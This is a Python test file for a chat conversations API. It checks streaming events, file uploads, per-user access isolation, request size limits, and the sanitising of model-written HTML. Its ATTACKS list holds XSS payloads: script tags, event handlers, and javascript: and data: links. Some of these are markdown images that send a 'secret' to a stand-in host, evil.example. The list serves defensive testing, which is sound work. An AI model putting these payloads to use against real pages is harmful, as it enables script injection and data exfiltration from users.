"""The own API of conversations over a real HTTP server: private, streamed at once, and safe to show."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import httpx2
import pytest

from insjo.agents.types import Source
from insjo.testing.recorder import Fault, Script
from insjo.web.insjo.conversations import JSON_BYTES_MAX, ROUTES
from insjo.web.pages.citations import render_answer
from tests.support.gateway import until
from tests.support.talk import OUTSIDE, Talk, open_talk

PAY = "Kalle Svensson earns 98765 kronor a month and lives at Storgatan 17 in Lund"
CANARY = "kanarie7f3a9c21"
NEW = "/conversations/new/messages"


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Talk]:
    with open_talk(tmp_path_factory.mktemp("talk"), waiting_s=0.3) as talk:
        talk.endpoint(users=("anna",))
        talk.protect(PAY)
        yield talk


@pytest.fixture
def talk(opened: Talk) -> Talk:
    opened.inside.clear()
    opened.outside.clear()
    return opened


@pytest.fixture
def anna(talk: Talk) -> Iterator[httpx2.Client]:
    with talk.client("anna") as client:
        yield client


def events_of(text: str) -> list[tuple[str, Any]]:
    """Events of a stream, without its comments."""
    found = []
    for block in text.split("\n\n"):
        name, content = "", ""
        for line in block.split("\n"):
            if line.startswith("event: "):
                name = line[7:]
            elif line.startswith("data: "):
                content = line[6:]
        if content:
            found.append((name, json.loads(content)))
    return found


def send(client: httpx2.Client, text: str, path: str = NEW, **fields: Any) -> list[tuple[str, Any]]:  # noqa: ANN401  # Fields of the body.
    """Send as JSON and read the whole stream."""
    reply = client.post(path, json={"text": text, **fields})
    assert reply.status_code == 200, reply.text
    assert reply.headers["content-type"].startswith("text/event-stream")
    return events_of(reply.text)


def named(events: list[tuple[str, Any]], name: str) -> list[Any]:
    return [content for each, content in events if each == name]


# ---------------------------------------------------------------------------------------------------------------------- streaming


def test_an_answer_comes_as_the_events_that_the_page_knows(talk: Talk, anna: httpx2.Client) -> None:
    talk.inside.script.append(Script(text="Lakes are **deep**."))
    reply = anna.post(NEW, json={"text": "What are lakes?", "endpoint": "insjo-chat"})
    assert reply.headers["cache-control"] == "no-store"
    assert reply.headers["x-accel-buffering"] == "no"
    events = events_of(reply.text)
    assert events[0][0] == "started"
    assert events[-1][0] == "finished"
    assert {name for name, _ in events[1:-1]} == {"delta"}
    assert "".join(each["text"] for each in named(events, "delta")) == "Lakes are **deep**."
    finished = events[-1][1]
    assert finished["html"] == "<p>Lakes are <strong>deep</strong>.</p>\n"
    assert finished["label"] == {"level": "internal", "categories": [], "zone": "any"}
    assert finished["model"] == "recorded-local"
    assert finished["sources"] == []
    assert finished["title"] == "What are lakes?"
    assert re.fullmatch(r"/chat/[0-9a-f-]{36}", finished["conversation_url"])
    assert finished["send_url"] == f"/api/insjo/v1/conversations/{finished['conversation_url'][6:]}/messages"
    assert events[0][1] == {name: finished[name] for name in ("conversation_url", "send_url", "title")}


def test_the_page_s_form_is_understood(talk: Talk, anna: httpx2.Client) -> None:
    fields = {"text": "What does it say?", "endpoint": "insjo-chat", "index": "", "agent": ""}
    files = [
        ("files", ("räksmörgås.md", f"# Note\n\n{CANARY} is hidden here.".encode(), "text/markdown")),
        ("files", ("other.txt", b"Nothing of interest.", "text/plain")),
    ]
    reply = anna.post(NEW, data=fields, files=files)
    events = events_of(reply.text)
    assert events[-1][0] == "finished", events
    assert [(each["name"], each["state"]) for each in named(events, "tool")] == [
        ("räksmörgås.md", "called"),
        ("räksmörgås.md", "returned"),
        ("other.txt", "called"),
        ("other.txt", "returned"),
    ]
    assert CANARY in talk.inside.requests[-1].json()["messages"][-1]["content"]
    # A file field for which nothing was chosen comes without a name.
    path = events[-1][1]["send_url"].removeprefix("/api/insjo/v1")
    again = anna.post(path, data={"text": "And now?", "endpoint": "insjo-chat"}, files=[("files", ("", b"", "application/octet-stream"))])
    assert events_of(again.text)[-1][0] == "finished", again.text
    kept = anna.get(f"/conversations/{events[-1][1]['conversation_url'][6:]}/messages").json()["messages"]
    assert kept[0]["files"] == ["räksmörgås.md", "other.txt"]
    assert CANARY not in kept[0]["text"]


def test_pieces_are_passed_on_at_once_and_silence_is_bridged(talk: Talk, anna: httpx2.Client) -> None:
    """The model falls silent half-way for ever: what it said is here, and so are signs of life."""
    talk.inside.script.append(Script(text="one two three four five six", fault=Fault.HANG_MID_STREAM))
    seen = ""
    with anna.stream("POST", NEW, json={"text": "Count", "endpoint": "insjo-chat"}) as reply:
        for piece in reply.iter_text():
            seen += piece
            if "two" in seen and seen.count(": still here\n\n") >= 2:
                break
    assert events_of(seen)[0][0] == "started"


def test_whoever_hangs_up_stops_the_answer_and_finds_what_came(talk: Talk, anna: httpx2.Client) -> None:
    talk.inside.script.append(Script(text=" ".join(f"word{number}" for number in range(500)), event_delay_s=0.02))
    seen = ""
    with anna.stream("POST", NEW, json={"text": "Count", "endpoint": "insjo-chat"}) as reply:
        for piece in reply.iter_text():
            seen += piece
            if "word4" in seen:
                break
    until(lambda: talk.inside.cut_by_client == 1)
    path = f"/conversations/{events_of(seen)[0][1]['conversation_url'][6:]}/messages"
    until(lambda: len(anna.get(path).json()["messages"]) == 2)
    asked, answered = anna.get(path).json()["messages"]
    assert asked["text"] == "Count"
    assert answered["text"].startswith("word0 word1 word2")
    assert "word499" not in answered["text"]
    assert answered["notices"] == ["Stopped."]
    assert answered["partial"] is True
    assert send(anna, "Go on", path)[-1][0] == "finished"


def test_a_reroute_is_told_and_labelled(talk: Talk, anna: httpx2.Client) -> None:
    events = send(anna, f"Shorten: {PAY}", endpoint=OUTSIDE)
    (notice,) = named(events, "notice")
    assert notice["kind"] == "rerouted"
    assert "`paid` may not receive" in notice["text"]
    assert events[-1][1]["label"] == {"level": "confidential", "categories": ["salary"], "zone": "any"}
    assert events[-1][1]["model"] == "insjo-chat/recorded-local"
    assert events[-1][1]["notices"] == [notice["text"]]
    assert not talk.outside.requests


def test_a_failure_is_an_event_and_the_message_is_kept(talk: Talk, anna: httpx2.Client) -> None:
    talk.inside.script.append(Script(fault=Fault.STATUS, status=500))
    events = send(anna, "Hello", endpoint="insjo-chat")
    assert [name for name, _ in events] == ["started", "error"]
    assert events[1][1]["code"] == "PROVIDER_FAILED"
    assert set(events[1][1]) == {"message", "hint", "code"}
    kept = anna.get(f"/conversations/{events[0][1]['conversation_url'][6:]}/messages").json()["messages"]
    assert [each["text"] for each in kept] == ["Hello", ""]


# ---------------------------------------------------------------------------------------------------------------- one document


def test_whoever_accepts_json_gets_one_document(talk: Talk) -> None:
    with talk.client("anna", accept="application/json") as client:
        talk.inside.script.append(Script(text="Short."))
        reply = client.post(NEW, json={"text": "Say something short", "endpoint": "insjo-chat"})
        assert reply.status_code == 200
        body = reply.json()
        assert body["message"]["text"] == "Short."
        assert body["message"]["html"] == "<p>Short.</p>\n"
        assert body["message"]["number"] == 2
        assert body["conversation"]["title"] == "Say something short"
        talk.inside.script.append(Script(fault=Fault.STATUS, status=500))
        failed = client.post(f"/conversations/{body['conversation']['id']}/messages", json={"text": "Again"})
        assert failed.status_code == 502
        assert failed.json()["error_code"] == "PROVIDER_FAILED"
        assert failed.json()["details"]["conversation_id"] == body["conversation"]["id"]


# ------------------------------------------------------------------------------------------------------------------ the list


def test_conversations_are_listed_renamed_and_deleted(talk: Talk) -> None:
    with talk.client("keeper") as client:
        ids = [named(send(client, f"question {number}"), "finished")[0]["conversation_url"][6:] for number in range(3)]
        first = client.get("/conversations", params={"max_results": 2}).json()
        assert [each["id"] for each in first["conversations"]] == ids[:0:-1]
        second = client.get("/conversations", params={"max_results": 2, "page_token": first["next_page_token"]}).json()
        assert [each["id"] for each in second["conversations"]] == ids[:1]
        assert "next_page_token" not in second
        one = client.get(f"/conversations/{ids[0]}").json()
        assert (one["title"], one["endpoint"], one["agent"], one["indexes"]) == ("question 0", "insjo-chat", "", [])
        assert one["created_at"] <= one["updated_at"]
        renamed = client.patch(f"/conversations/{ids[0]}", json={"title": "Better"})
        assert renamed.json()["title"] == "Better"
        assert client.patch(f"/conversations/{ids[0]}", json={"title": " "}).status_code == 400
        assert client.patch(f"/conversations/{ids[0]}", json={}).status_code == 400
        kept = client.get(f"/conversations/{ids[0]}/messages").json()["messages"]
        assert [(each["role"], each["number"]) for each in kept] == [("user", 1), ("assistant", 2)]
        assert "html" not in kept[0]
        earlier = client.get(f"/conversations/{ids[0]}/messages", params={"before": 2}).json()["messages"]
        assert [each["number"] for each in earlier] == [1]
        assert client.delete(f"/conversations/{ids[0]}").status_code == 200
        assert client.get(f"/conversations/{ids[0]}").status_code == 404
        assert client.delete(f"/conversations/{ids[0]}").status_code == 404


@pytest.mark.parametrize("route", ROUTES, ids=lambda route: f"{route.method} {route.path}")
def test_no_route_tells_anybody_else_anything(talk: Talk, anna: httpx2.Client, route: Any) -> None:  # noqa: ANN401  # As pytest gives it.
    conversation = named(send(anna, f"Tell me about {CANARY}"), "finished")[0]["conversation_url"][6:]
    path = route.path.removeprefix("/api/insjo/v1").format(id=conversation)
    body = {"text": "let me in", "title": "mine"} if route.method in {"POST", "PATCH"} else None
    talk.inside.clear()
    for who in ("bo", "admin"):
        with talk.client(who) as other:
            reply = other.request(route.method, path, json=body)
            missing = other.request(route.method, path.replace(conversation, "01a207b3-0000-7000-8000-000000000000"), json=body)
        assert CANARY not in reply.text
        if "{id}" in route.path:
            assert reply.status_code == missing.status_code == 404
            assert reply.json()["error_code"] == "CONVERSATION_DOES_NOT_EXIST"
            assert reply.text.replace(conversation, "") == missing.text.replace("01a207b3-0000-7000-8000-000000000000", "")
    with httpx2.Client(base_url=f"{talk.url}/api/insjo/v1") as nobody:
        assert nobody.request(route.method, path, json=body).status_code == 401
    assert not talk.inside.requests
    assert anna.get(f"/conversations/{conversation}").json()["title"] == f"Tell me about {CANARY}"
    assert len(anna.get(f"/conversations/{conversation}/messages").json()["messages"]) == 2


# ------------------------------------------------------------------------------------------------------------------- bad input


@pytest.mark.parametrize(
    ("body", "code"),
    [
        ({"text": ""}, "INVALID_MESSAGE"),
        ({"text": "x" * 100_001}, "INVALID_MESSAGE"),
        ({"text": 7}, "INVALID_PARAMETER_VALUE"),
        ({"text": "x", "indexes": "no list"}, "INVALID_PARAMETER_VALUE"),
        ({"text": "x", "indexes": [f"main.docs.i{number}" for number in range(11)]}, "INVALID_PARAMETER_VALUE"),
        ([], "INVALID_PARAMETER_VALUE"),
    ],
)
def test_wrong_messages_are_refused_with_a_status(anna: httpx2.Client, body: Any, code: str) -> None:  # noqa: ANN401  # Any JSON may be sent.
    before = anna.get("/conversations").json()
    reply = anna.post(NEW, json=body)
    assert (reply.status_code, reply.json()["error_code"]) == (400, code)
    assert reply.json()["message"]
    assert anna.get("/conversations").json() == before


def test_what_is_not_there_is_not_found(anna: httpx2.Client) -> None:
    assert anna.post(NEW, json={"text": "x", "endpoint": "nowhere"}).status_code == 404
    assert anna.post(NEW, json={"text": "x", "agent": "main.docs.nobody"}).status_code == 404
    assert anna.post(NEW, json={"text": "x", "indexes": ["main.docs.nothing"]}).status_code == 404
    assert anna.get("/conversations/%2e%2e").status_code in {404, 501}


def test_bodies_have_limits(anna: httpx2.Client) -> None:
    large = anna.post(NEW, content=b" " * (JSON_BYTES_MAX + 1), headers={"content-type": "application/json"})
    assert (large.status_code, large.json()["error_code"]) == (413, "REQUEST_TOO_LARGE")
    assert anna.post(NEW, content=b"{oops", headers={"content-type": "application/json"}).status_code == 400
    boundary = {"content-type": "multipart/form-data; boundary=b"}
    assert anna.post(NEW, content=b"no form at all", headers=boundary).status_code == 400
    assert anna.post(NEW, content=b"x", headers={"content-type": "multipart/form-data"}).status_code == 400
    many = [("files", (f"{number}.md", b"x")) for number in range(11)]
    assert anna.post(NEW, data={"text": "x"}, files=many).status_code == 400
    wrong = anna.post(NEW, data={"text": "x"}, files=[("files", ("program.exe", b"MZ"))])
    assert (wrong.status_code, wrong.json()["error_code"]) == (400, "INVALID_ATTACHMENT")


def test_forms_have_a_limit_whether_or_not_they_tell_their_length(talk: Talk, anna: httpx2.Client, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("insjo.web.insjo.conversations.FORM_BYTES_MAX", 5_000)
    files = [("files", ("long.md", b"x" * 6_000))]
    told = anna.post(NEW, data={"text": "x"}, files=files)
    whole = anna.build_request("POST", NEW, data={"text": "x"}, files=files)
    body = whole.read()
    untold = anna.post(NEW, content=iter([body[:3_000], body[3_000:]]), headers={"content-type": whole.headers["content-type"]})
    for reply in (told, untold):
        assert (reply.status_code, reply.json()["error_code"]) == (413, "REQUEST_TOO_LARGE")
    assert not talk.inside.requests


# ------------------------------------------------------------------------------------------------------------------ safe to show


class _Elements(HTMLParser):
    """What a browser would make of a fragment."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?q=secret)",
    "![leak][1]\n\n[1]: https://evil.example/x.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)><style>@import 'https://evil.example'</style></svg>",
    "<iframe src=https://evil.example></iframe><object data=x><embed src=x><base href=//evil.example>",
    "<form action=https://evil.example><input name=password></form>",
    '[1](https://evil.example "onmouseover=\'alert(1)\'") [1]" onclick="alert(1)',
    '[x](/ok "> [1] <script>alert(1)</script>")',
    "`[1]<script>` ```\n<script>alert(1)</script>\n```",
    "[1]: javascript:alert(1)\n\n[1]",
    "&lt;script&gt;[1]&#60;script&#62;",
    "<<<[1]>>>",
    "\x00<scr\x00ipt>alert(1)</script>",
    '<p style="background:url(https://evil.example)">[1]</p>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_model_writes_is_harmless(talk: Talk, anna: httpx2.Client, attack: str) -> None:
    talk.inside.script.append(Script(text=f"Look: {attack}"))
    html = send(anna, "Attack me", endpoint="insjo-chat")[-1][1]["html"]
    hostile = (Source(1, "Evil", "", "javascript:alert(1)"), Source(2, "Evil", "", "//evil.example"), Source(3, "x", "", 'a"><script>'))
    cited = (Source(1, "Rules", "rules.md", '/knowledge/main.docs.i/passages/p1?a=1&b="<x>'),)
    for shown in (html, str(render_answer(f"Look: {attack}", cited)), str(render_answer(f"Look: {attack}", hostile))):
        for tag, attributes in _Elements(shown).found:
            assert tag in {"p", "a", "code", "pre", "em", "strong", "br", "blockquote"}, shown
            assert set(attributes) <= {"href", "title", "rel", "class"}, shown
            assert (attributes.get("href") or "/").startswith(("/", "https://evil.example")), shown
            assert not (attributes.get("href") or "").startswith("//"), shown
            if (attributes.get("href") or "").startswith("https://evil"):
                assert "(https://evil.example" in shown


def test_numbers_lead_to_their_sources_and_to_nothing_else() -> None:
    sources = (Source(1, "Rules", "rules.md, page 3", "/knowledge/a/passages/x"), Source(2, "Pay", "pay.md", "/knowledge/a/passages/y&z"))
    html = str(render_answer("One [1], both [1, 2], none [3], `code [1]`, a [link [1]](/p) and **[2]** & [4, 1].", sources))
    assert html.count('class="cite"') == 4
    assert '<a class="cite" href="/knowledge/a/passages/x" rel="noopener noreferrer nofollow">1</a>, both' in html
    assert "[3]" in html
    assert "<code>code [1]</code>" in html
    assert "[4, 1]" in html
    assert "&amp; [4" in html
    assert 'href="/knowledge/a/passages/y&amp;z"' in html
    assert str(render_answer("None [1]", ())) == "<p>None [1]</p>\n"


def test_an_answer_from_documents_links_its_numbers(talk: Talk) -> None:
    found = talk.library
    found.write("rules.md", b"# Hotels\n\nA hotel in Stockholm may cost 1450 kronor a night, and not one krona more.\n")
    found.room.indexes.create(found.admin, "main.docs.handbook", sources=("/Volumes/main/docs/files",))
    found.build()
    found.reader("reader", "main.docs.files")
    talk.inside.script.append(Script(text="At most 1450 kronor [1]."))
    with talk.client("reader") as client:
        fields = {"text": "What may a hotel in Stockholm cost a night?", "index": "main.docs.handbook"}
        events = events_of(client.post(NEW, data=fields, files=[("files", ("", b""))]).text)
        urlencoded = client.post(NEW, data=fields)
    assert (urlencoded.status_code, urlencoded.json()["hint"]) == (400, "Send JSON or multipart/form-data.")
    assert named(events, "retrieved") == [{"count": 1}]
    (cited,) = named(events, "cited")
    assert (cited["number"], cited["title"]) == (1, "Hotels")
    assert "rules.md" in cited["place"]
    finished = events[-1][1]
    assert finished["sources"] == [cited]
    assert f'<a class="cite" href="{cited["href"]}"' in finished["html"]
